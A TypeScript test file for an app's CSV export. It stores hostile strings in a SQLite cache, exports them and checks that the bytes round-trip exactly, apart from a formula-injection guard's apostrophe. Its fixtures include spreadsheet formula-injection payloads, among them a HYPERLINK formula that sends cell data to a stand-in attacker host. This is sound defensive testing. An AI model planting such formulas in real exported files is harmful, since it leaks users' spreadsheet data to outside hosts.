/**
 * CSV is the exact-data format: hostile text stored in a real SQLite cache, exported to CSV from the cache as
 * the app does it, and read back by csv-parse (an independent RFC 4180 reader), equals the cache's own bytes
 * for every text field of every row; the formula guard's leading apostrophe is the one difference.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportInteractions } from '../../src-main/core/reports/export-interactions';
import { openSqliteStore } from '../../src-main/core/store/sqlite/sqlite-store';
import { API_FIELDS, type ApiField, type Chat4Record } from '../../src-main/core/wolkvox/fields';
import { tempDir } from './export-helpers';
import { ctx, openFresh, recordOf, upsertBatch } from './store-fixtures';

const EVERY_CONTROL = Array.from({ length: 0x20 }, (_, c) => String.fromCharCode(c)).join('') + '\u007f';
const RTL = '\u200Fשלום עולם\u200E \u202Bمرحبا، طلب رقم 123\u202C \u2067isolate\u2069';
const ASTRAL = 'Gracias 👍🏽 familia 👨‍👩‍👧 bandera 🇨🇴 𠜎 𝕏 🀄';
/**
 * The guard's documented change: an apostrophe before a formula-like field, and before = + - @ right after a
 * comma, semicolon, tab or line break (quotes between allowed), where a reader could split a piece off.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PIECE = /([,;\t\r\n]"*)([=+\-@])/g;
const guarded = (text: string) => (FORMULA_START.test(text) ? "'" : '') + text.replace(PIECE, "$1'$2");

/** Values a cache can hold, each chosen to break a careless CSV writer or reader. */
const HOSTILE: Array<[string, string]> = [
  ['every control character', `a${EVERY_CONTROL}b`],
  ['NUL first', '\u0000after a NUL'],
  ['NUL only', '\u0000'],
  ['lone CR', 'one\rtwo'],
  ['CRLF', 'one\r\ntwo'],
  ['LF', 'one\ntwo\n'],
  ['CR LF CR', '\r\n\r'],
  ['quotes', 'He said "yes", then ""twice"" and "'],
  ['quote only', '"'],
  ['comma only', ','],
  ['RTL marks', RTL],
  ['emoji and astral', ASTRAL],
  ['noncharacters and separators', 'p\uFFFEq\uFFFFr\u2028s\u2029t\uFEFFu'],
  ['surrounding spaces', '  padded  '],
  ['formula', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['plus', '+1'],
  ['minus', '-2+3'],
  ['at', '@SUM(A1:A9)'],
  ['leading tab', '\t=1+1'],
  ['leading CR', '\r=1+1'],
  ['over-long', `${'x'.repeat(33_000)}${EVERY_CONTROL}"${RTL},${ASTRAL}\r\n`.repeat(2)],
  ['over-long formula', `=${'9'.repeat(40_000)}`],
];

const COLUMN: Partial<Record<ApiField, string>> = { from: 'from_addr', to: 'to_addr' };
const TEXT_FIELDS = API_FIELDS.filter((f) => f !== 'date_creation' && f !== 'close_date');

test('csv from the cache: every text field of every row equals the stored bytes (but for the guard\'s apostrophes)', async (t) => {
  const { db, path } = openFresh('wolkvox-csv-exact-');
  t.after(() => db.close());
  // Each hostile value in the body, reversed into the answer, and with text around it in the comments; the
  // subject mixes the value of the next row, so every field of the row carries something to get wrong.
  const records = HOSTILE.map(([label, value], i) => {
    const fields: Partial<Chat4Record> = {
      case_id: `case-${i}`,
      subject: `${label}, ${Array.from(HOSTILE[(i + 1) % HOSTILE.length]![1]).slice(0, 200).join('')}`,
      body: value,
      answer: [...value].reverse().join(''),
      comments: `before ${value} after`,
      agent_name: Array.from(value).slice(0, 50).join(''), // whole code points: no lone surrogate
    };
    return recordOf(fields);
  });
  upsertBatch(db, records, ctx);
  const columns = TEXT_FIELDS.map((f) => `CAST(${COLUMN[f] ?? f} AS BLOB) AS ${f === 'from' || f === 'to' ? `"${f}"` : f}`);
  const stored = db.prepare(`SELECT ${columns.join(', ')} FROM interactions`).all() as Array<Record<string, Buffer | null>>;
  assert.equal(stored.length, HOSTILE.length);
  const longest = Math.max(...stored.map((r) => r.body?.length ?? 0));
  assert.ok(longest > 32_767 * 2, `the cache holds a body of ${longest} bytes, past Excel's cell limit`);
  assert.ok(stored.some((r) => r.body?.includes(0)), 'the cache holds a NUL');

  const outPath = join(tempDir(t), 'exact.csv');
  const store = await openSqliteStore({ dbPath: path, access: 'read', readers: 'on-demand' });
  t.after(() => store.close());
  const result = await exportInteractions(store, { filter: {}, format: 'csv', headers: 'api', outPath, zone: ctx.zone });
  assert.equal(result.rows, HOSTILE.length);
  const bytes = readFileSync(outPath);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const parsed = parse(bytes, { bom: true, columns: true, relax_column_count: false }) as Array<Record<string, string>>;
  assert.equal(parsed.length, HOSTILE.length);
  assert.deepEqual(Object.keys(parsed[0]!), [...API_FIELDS], 'header: the API field names');

  const byCase = new Map(parsed.map((row) => [row.case_id, row]));
  let guardedFields = 0;
  let compared = 0;
  for (const want of stored) {
    const caseId = want.case_id!.toString('utf8');
    const row = byCase.get(caseId);
    assert.ok(row, `row ${caseId} exported`);
    for (const field of TEXT_FIELDS) {
      const stored = want[field] ?? Buffer.alloc(0);
      const got: Buffer = Buffer.from(row[field]!, 'utf8');
      // Stored bytes are well-formed UTF-8 (the cache writes U+FFFD for a lone surrogate), so the text round-trips.
      const text = stored.toString('utf8');
      const expected = Buffer.from(guarded(text), 'utf8');
      if (guarded(text) !== text) guardedFields += 1;
      assert.ok(got.equals(expected), `${caseId} ${field}: ${got.length} bytes read back, ${expected.length} expected (${stored.length} stored)`);
      compared += 1;
    }
  }
  assert.equal(compared, HOSTILE.length * TEXT_FIELDS.length);
  assert.ok(guardedFields >= 8, `${guardedFields} guarded fields seen`);
});
